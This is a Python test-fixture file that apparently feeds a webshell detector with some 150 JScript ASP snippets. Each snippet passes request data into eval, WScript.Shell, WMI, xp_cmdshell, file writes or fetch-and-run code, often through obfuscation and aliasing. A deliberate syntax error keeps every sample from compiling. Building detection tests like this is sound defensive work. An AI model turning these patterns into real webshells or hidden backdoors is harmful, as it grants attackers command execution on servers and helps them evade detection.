# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Ways a value takes in JScript from the request to an act, one cell each; none can run, `1broken` stops the compiler."""

import re

from tests.detection.webshell.second_samples import Sample

_TEXT = r"""
==== function-named-as-member
function run(line) { var sh = new ActiveXObject("WScript.Shell"); return sh.Run("cmd /c " + line, 0, true); }
run(String(Request.QueryString("q")));
==== function-named-exec
function exec(c) { return new ActiveXObject("WScript.Shell").Exec(c).StdOut.ReadAll(); }
Response.Write(exec(Request("q")));
==== method-named-as-member
var tool = { Run: function (c) { var w = Server.CreateObject("WScript.Shell"); w.Run(c, 0, true); } };
tool.Run(String(Request("q")));
==== function-named-write
function write(n, b) { var f = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(n, true); f.Write(b); f.Close(); }
write(String(Request("n")), String(Request("b")));
==== method-named-eval
var o = { eval: function (s) { return eval(s); } };
o.eval(String(Request("q")));
==== recursion
function peel(s, n) { return n ? peel(s.substring(1), n - 1) : s; }
eval(peel(String(Request("q")), 3));
==== mutual-recursion
function a(s, n) { if (n > 3) b(s, n); else a(s, n + 1); }
function b(s, n) { if (n > 9) eval(s); else a(s, n + 1); }
a(String(Request("q")), 0);
==== constructor-field
function Service() { this.host = new ActiveXObject("WScript.Shell"); }
Service.prototype.perform = function (c) { return this.host.Run("cmd /c " + c, 0, true); };
new Service().perform(String(Request("q")));
==== constructor-argument
function Job(t) { this.text = t; }
Job.prototype.go = function () { return eval(this.text); };
var j = new Job(String(Request("q"))); j.go();
==== constructor-methods
function Box() { var v = ""; this.set = function (x) { v = x; }; this.go = function () { eval(v); }; }
var b = new Box(); b.set(String(Request("q"))); b.go();
==== self-closure
function T(c) { var self = this; self.c = c; self.go = function () { eval(self.c); }; }
new T(String(Request.Form("q"))).go();
==== prototype-object
function P() {}
P.prototype = { read: function () { return String(Request("q")); }, act: function () { eval(this.read()); } };
new P().act();
==== prototype-string
String.prototype.go = function () { return eval(String(this)); };
String(Request("q")).go();
==== inherited
function Base() {} Base.prototype.fire = function (s) { eval(s); };
function Sub() {} Sub.prototype = new Base();
new Sub().fire(String(Request("q")));
==== public-field
var o = {}; o.line = String(Request("q")); new ActiveXObject("WScript.Shell").Run(o.line);
==== field-object
var o = {}; o.sh = new ActiveXObject("WScript.Shell"); o.sh.Run(String(Request("q")));
==== literal-object
var o = { sh: new ActiveXObject("WScript.Shell"), c: String(Request("q")) }; o.sh.Run(o.c, 0);
==== nested-literal
var o = { a: { b: { c: String(Request("q")) } } }; eval(o.a.b.c);
==== literal-function
var o = { go: function (s) { eval(s); } }; o.go(String(Request("q")));
==== literal-quoted-name
var o = { "go": function (s) { eval(s); } }; o["go"](String(Request("q")));
==== table-of-functions
var t = { x: function (s) { return eval(s); }, y: function (s) { return s; } };
t[String(Request("a"))](String(Request("q")));
==== table-assigned
var t = {}; t.x = function () { eval(String(Request("q"))); }; t["y"] = function () {};
t[String(Request("a"))]();
==== factory
function host() { return new ActiveXObject("WScript.Shell"); }
host().Run(String(Request("q")));
==== factory-switch
function make(k) { switch (k) { case 1: return new ActiveXObject("Scripting.FileSystemObject"); case 2: return new ActiveXObject("WScript.Shell"); } }
var o = make(2); o.Run(String(Request("q")));
==== array-element
var a = []; a[0] = "cmd /c "; a[1] = String(Request("q")); new ActiveXObject("WScript.Shell").Run(a[0] + a[1]);
==== array-push-join
var a = []; a.push("x=1;"); a.push(String(Request("q"))); eval(a.join(""));
==== array-new
var a = new Array("a", String(Request("q"))); eval(a[1]);
==== array-literal
var a = ["a", String(Request("q"))]; eval(a[1]);
==== array-object
var a = [new ActiveXObject("WScript.Shell"), String(Request("q"))]; a[0].Run(a[1]);
==== array-shift
var a = String(Request("q")).split("|"); var n = a.shift(); if (n == "k") eval(a.shift());
==== array-concat-slice
var a = ["x"].concat([String(Request("q"))]); eval(a.slice(1)[0]);
==== array-reverse
eval(String(Request("q")).split("").reverse().join(""));
==== array-pop
var a = String(Request("q")).split("~"); eval(a.pop());
==== split-loop
var p = String(Request("q")).split(","), s = ""; for (var i = 0; i < p.length; i++) s += String.fromCharCode(p[i]); eval(s);
==== parse-int-loop
var h = String(Request("q")), s = ""; for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16)); eval(s);
==== char-code-at-loop
var h = String(Request("q")), s = ""; for (var i = 0; i < h.length; i++) { s += String.fromCharCode(h.charCodeAt(i) ^ 7); } eval(s);
==== while-loop
var h = String(Request("q")), s = "", i = 0; while (i < h.length) { s += h.charAt(i++); i++; } eval(s);
==== do-loop
var i = 0; do { var v = String(Request.Form("q" + i)); if (v != "undefined") eval(v); i++; } while (i < 4);
==== for-in
var o = {}; o.c = String(Request("q")); for (var k in o) eval(o[k]);
==== enumerator
for (var e = new Enumerator(Request.Form); !e.atEnd(); e.moveNext()) { eval(String(Request.Form(e.item()))); }
==== enumerator-key
var e = new Enumerator(Request.QueryString); while (!e.atEnd()) { eval(String(e.item())); e.moveNext(); }
==== enumerator-cookies
for (var e = new Enumerator(Request.Cookies); !e.atEnd(); e.moveNext()) eval(unescape(Request.Cookies(e.item())));
==== dictionary
var d = new ActiveXObject("Scripting.Dictionary"); d.Add("c", String(Request("q"))); eval(d.Item("c"));
==== dictionary-default
var d = Server.CreateObject("Scripting.Dictionary"); d("c") = String(Request("q")); eval(d("c"));
==== switch-case
switch (String(Request("a"))) { case "x": new ActiveXObject("WScript.Shell").Run(String(Request("q"))); break; default: Response.Write("x"); }
==== switch-value
var c; switch (String(Request("a"))) { case "x": c = String(Request("q")); break; default: c = "ver"; } new ActiveXObject("WScript.Shell").Run("cmd /c " + c);
==== with
with (new ActiveXObject("WScript.Shell")) { Run(String(Request("q")), 0, true); }
==== with-request
with (Request) { eval(String(Form("q"))); }
==== with-object
var o = { c: String(Request("q")) }; with (o) { eval(c); }
==== eval-assembled
eval("ev" + "al(String(Req" + "uest('q')))");
==== eval-defines
eval("function f(s) { return eval(s); }"); f(String(Request("q")));
==== eval-assignment
eval("var v = String(Request('q'))"); eval(v);
==== eval-object
var o = eval("new ActiveXObject('WScript.Shell')"); o.Run(String(Request("q")));
==== eval-alias
var e = eval; e(String(Request("q")));
==== eval-call
eval.call(null, String(Request("q")));
==== eval-apply
eval.apply(this, [String(Request("q"))]);
==== eval-comma
(0, eval)(String(Request("q")));
==== eval-this-member
this["ev" + "al"](String(Request("q")));
==== eval-reversed
eval("))'q'(tseuqeR(gnirtS(lave".split("").reverse().join(""));
==== eval-replaced
eval("ev#al(String(Req#uest('q')))".replace(/#/g, ""));
==== new-function
new Function(String(Request("q")))();
==== new-function-argument
var f = new Function("s", "return eval(s)"); f(String(Request("q")));
==== function-constructor
(function () {}).constructor(String(Request("q")))();
==== function-call-form
Function(String(Request("q")))();
==== function-to-variable
var go = function (s) { eval(s); }; go(String(Request("q")));
==== function-immediate
(function (s) { eval(s); })(String(Request("q")));
==== function-immediate-named
(function go(s) { return eval(s); }(String(Request("q"))));
==== function-passed
function each(f, v) { return f(v); } function act(s) { eval(s); }
each(act, String(Request("q")));
==== function-passed-unnamed
function each(a, f) { for (var i = 0; i < a.length; i++) f(a[i]); }
each([String(Request("q"))], function (s) { eval(s); });
==== function-returned
function maker() { return function (s) { return eval(s); }; } maker()(String(Request("q")));
==== function-returned-closure
function maker(s) { return function () { return eval(s); }; } maker(String(Request("q")))();
==== function-curried
function run(p) { return function (a) { return new ActiveXObject("WScript.Shell").Run(p + " /c " + a, 0); }; } run("cmd")(String(Request("q")));
==== function-call
function act(s) { eval(s); } act.call(this, String(Request("q")));
==== function-apply
function act(s) { eval(s); } act.apply(null, [String(Request("q"))]);
==== function-by-name
function act(s) { eval(s); } this["act"](String(Request("q")));
==== method-by-text
var sh = new ActiveXObject("WScript.Shell"); sh["R" + "un"](String(Request("q")));
==== method-by-variable
var sh = new ActiveXObject("WScript.Shell"), m = "Run"; sh[m](String(Request("q")));
==== arguments
function act() { eval(arguments[0]); } act(String(Request("q")));
==== arguments-loop
function act() { var s = ""; for (var i = 0; i < arguments.length; i++) s += arguments[i]; eval(s); } act("x=", String(Request("q")));
==== arguments-callee
(function (s, n) { if (n) arguments.callee(s, n - 1); else eval(s); })(String(Request("q")), 2);
==== throw-catch
try { throw String(Request("q")); } catch (e) { eval(e); }
==== throw-catch-object
try { throw new Error(String(Request("q"))); } catch (e) { eval(e.message); }
==== finally
var s; try { s = String(Request("q")); } finally { eval(s); }
==== throw-from-function
function bad() { throw { c: String(Request("q")) }; } try { bad(); } catch (x) { eval(x.c); }
==== conditional
eval(Request("q").Count ? String(Request("q")) : "0");
==== conditional-nested
var s = Request("a").Count > 0 ? String(Request("a")) : Request("b").Count > 0 ? String(Request("b")) : ""; eval(s);
==== conditional-object
var o = Request("x").Count ? new ActiveXObject("WScript.Shell") : null; if (o) o.Run(String(Request("q")));
==== comma
var s; eval((s = String(Request("q")), s));
==== or
var s = String(Request("q")) || "0"; eval(s);
==== and
var q = String(Request("q")); q != "undefined" && eval(q);
==== escapes
\u0065val(String(Request("q")));
==== text-escapes
this["\x65\x76\u0061l"](String(Request("q")));
==== from-char-code
this[String.fromCharCode(101, 118, 97, 108)](String(Request("q")));
==== from-char-code-apply
eval(String.fromCharCode.apply(null, [101, 118, 97, 108, 40, 82, 101, 113, 117, 101, 115, 116, 40, 34, 113, 34, 41, 43, 34, 34, 41]));
==== unescape
eval(unescape("%65val(String(Request('q')))"));
==== unescape-request
eval(unescape(Request("q")));
==== decode-uri
eval(decodeURIComponent(String(Request.QueryString("q"))));
==== replace-function
eval(String(Request("q")).replace(/../g, function (h) { return String.fromCharCode(parseInt(h, 16)); }));
==== replace-function-acts
String(Request("q")).replace(/.+/, function (m) { eval(m); });
==== replace-function-constant
eval("6576616c28537472696e6728526571756573742e466f726d2822717122292929".replace(/../g, function (h) { return unescape("%" + h); }));
==== regex-exec
var m = /k=(.+)/.exec(String(Request.QueryString)); if (m) eval(m[1]);
==== regex-match
var m = String(Request("q")).match(/^k:([\s\S]+)$/); eval(m[1]);
==== regex-static
/(.+)/.test(String(Request("q"))); eval(RegExp.$1);
==== createobject-joined
var o = new ActiveXObject(["WScript", "Shell"].join(".")); o.Run(String(Request("q")));
==== createobject-escaped
var o = Server.CreateObject("W\x53cript.Shell"); o.Run(String(Request("q")));
==== createobject-alias
var X = ActiveXObject; new X("WScript.Shell").Run(String(Request("q")));
==== createobject-by-member
var o = Server["CreateObject"]("WScript.Shell"); o["Run"](Request("q") + "");
==== getobject-clsid
GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run(String(Request("q")));
==== wmi
GetObject("winmgmts:root/cimv2:Win32_Process").Create(String(Request("q")));
==== shell-application
new ActiveXObject("Shell.Application").ShellExecute("cmd.exe", "/c " + Request("q"), "", "open", 0);
==== scriptcontrol
var c = new ActiveXObject("MSScriptControl.ScriptControl"); c.Language = "JScript"; Response.Write(c.Eval(String(Request("q"))));
==== session
Session("t") = String(Request("q")); eval(Session("t"));
==== session-contents
Session.Contents("t") = String(Request("q")); eval(String(Session.Contents("t")));
==== application
Application.Lock(); Application("t") = String(Request("q")); Application.Unlock(); eval(Application("t"));
==== stream-write
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(Request.BinaryRead(Request.TotalBytes)); s.SaveToFile(String(Request.QueryString("n")), 2);
==== stream-read
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(Request.BinaryRead(Request.TotalBytes)); s.Position = 0; s.Type = 2; s.Charset = "utf-8"; eval(s.ReadText());
==== stream-in-function
function text(b) { var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(b); s.Position = 0; s.Type = 2; var t = s.ReadText(); s.Close(); return t; } eval(text(Request.BinaryRead(Request.TotalBytes)));
==== xml-base64
var n = new ActiveXObject("MSXML2.DOMDocument").createElement("b"); n.dataType = "bin.base64"; n.text = String(Request("q"));
var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(n.nodeTypedValue); s.Position = 0; s.Type = 2; eval(s.ReadText());
==== xml-request
var x = new ActiveXObject("MSXML2.DOMDocument"); x.async = false; x.load(Request); eval(x.documentElement.text);
==== recordset
var r = new ActiveXObject("ADODB.Recordset"); r.Fields.Append("t", 201, 4000); r.Open(); r.AddNew(); r("t").AppendChunk(Request.BinaryRead(Request.TotalBytes)); r.Update(); eval(String(r("t").Value));
==== server-execute
Server.Execute(String(Request("p")));
==== write-and-transfer
var f = new ActiveXObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("t.asp"), true); f.Write(String(Request("q"))); f.Close(); Server.Transfer("t.asp");
==== header
eval(String(Request.ServerVariables("HTTP_X_DATA")));
==== cookie
var c = Request.Cookies("c") + ""; if (c) eval(c);
==== request-alias
var r = Request; eval(String(r.Form("q")));
==== request-collection-alias
var f = Request.Form; eval(f("q") + "");
==== request-passed
function serve(r, n) { eval(String(r(n))); } serve(Request, "q");
==== request-item
var i = Request.Form("q").Item; eval(i);
==== request-item-number
var i = Request.Form("q")(1); eval(i);
==== request-by-member
eval(String(Request["Form"]("q")));
==== global-variable-function
var text; function load() { text = String(Request("q")); } function go() { eval(text); } load(); go();
==== local-shadow
var s = "1"; function go(s) { eval(s); } go(String(Request("q")));
==== default-argument
function go(s) { s = s || String(Request("q")); eval(s); } go();
==== labelled
outer: for (;;) { for (;;) { eval(String(Request("q"))); break outer; } }
==== no-semicolons
var q = String(Request("q"))
var sh = new ActiveXObject("WScript.Shell")
sh.Run(q)
==== throw-first
throw new Error("off");
eval(String(Request("q")));
==== response-end-first
Response.End();
new ActiveXObject("WScript.Shell").Run(String(Request("q")));
==== behind-return
function main() { return; eval(String(Request("q"))); } main();
==== behind-false
if (false) { eval(String(Request("q"))); }
==== blocks-interleaved
var q = String(Request("q")); if (q) { %><pre><%= eval(q) %></pre><% }
==== block-function
function show(s) { %><pre><%= new ActiveXObject("WScript.Shell").Exec(s).StdOut.ReadAll() %></pre><% } show(String(Request("q")));
==== fetch-run
var h = new ActiveXObject("MSXML2.ServerXMLHTTP"); h.open("GET", String(Request("u")), false); h.send(); eval(h.responseText);
==== fetch-save
var h = new ActiveXObject("MSXML2.XMLHTTP"); h.open("GET", String(Request("u")), false); h.send(); var s = new ActiveXObject("ADODB.Stream"); s.Type = 1; s.Open(); s.Write(h.responseBody); s.SaveToFile(String(Request("n")), 2);
==== file-manager
var fs = new ActiveXObject("Scripting.FileSystemObject"), p = String(Request("p"));
var acts = { d: function () { fs.DeleteFile(p); }, s: function () { Response.Write(fs.OpenTextFile(p, 1).ReadAll()); }, w: function () { fs.CreateTextFile(p, true).Write(String(Request("t"))); }, m: function () { fs.MoveFile(p, String(Request("n"))); } };
acts[String(Request("a"))]();
==== sql-cmdshell
var c = new ActiveXObject("ADODB.Connection"); c.Open("Provider=SQLOLEDB"); c.Execute("EXEC xp_cmdshell '" + String(Request("q")) + "'");
==== number-base
var s = "", p = String(Request("q")).split("-"); for (var i in p) s += String.fromCharCode(parseInt(p[i], 36)); eval(s);
==== base64-own
function d(t) { var k = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/", o = "", b = 0, n = 0; for (var i = 0; i < t.length; i++) { b = b << 6 | k.indexOf(t.charAt(i)); n += 6; if (n >= 8) { n -= 8; o += String.fromCharCode(b >> n & 255); } } return o; }
eval(d(String(Request("q"))));
==== map-object
var reg = { shell: "WScript.Shell", fs: "Scripting.FileSystemObject" }; var sh = Server.CreateObject(reg.shell); sh.Run(String(Request("q")));
==== map-method
var names = ["Exec", "Run"]; var sh = new ActiveXObject("WScript.Shell"); sh[names[1]](String(Request("q")));
==== to-string
var o = { toString: function () { return String(Request("q")); } }; eval(o + "");
==== value-of-constructor
var q = Request("q") + ""; q.constructor.constructor(q)();
==== settimeout-like
function later(f) { f(); } later(function () { eval(String(Request("q"))); });
==== chained-self
function B() { this.p = []; } B.prototype.add = function (x) { this.p.push(x); return this; }; B.prototype.run = function () { new ActiveXObject("WScript.Shell").Run(this.p.join(" ")); return this; };
new B().add("cmd /c").add(String(Request("q"))).run();
==== chained-literal
var b = { s: "", add: function (x) { this.s += x; return this; }, go: function () { return eval(this.s); } }; b.add(String(Request("q"))).go();
==== module
var M = (function () { var sh = new ActiveXObject("WScript.Shell"); return { go: function (c) { return sh.Run(c); } }; })(); M.go(String(Request("q")));
==== module-state
var M = (function () { var t; return { set: function (x) { t = x; }, go: function () { eval(t); } }; })(); M.set(String(Request("q"))); M.go();
"""


def _page(name: str, body: str) -> Sample:
    text = f'<%@ Language="JScript" %><% var 1broken;\n{body}%>'
    return Sample(f"js-{name}.asp", text.encode())


_PIECES = re.split(r"(?m)^==== (.*)\n", _TEXT)[1:]
CELLS = tuple(_page(name, body) for name, body in zip(_PIECES[::2], _PIECES[1::2], strict=True))
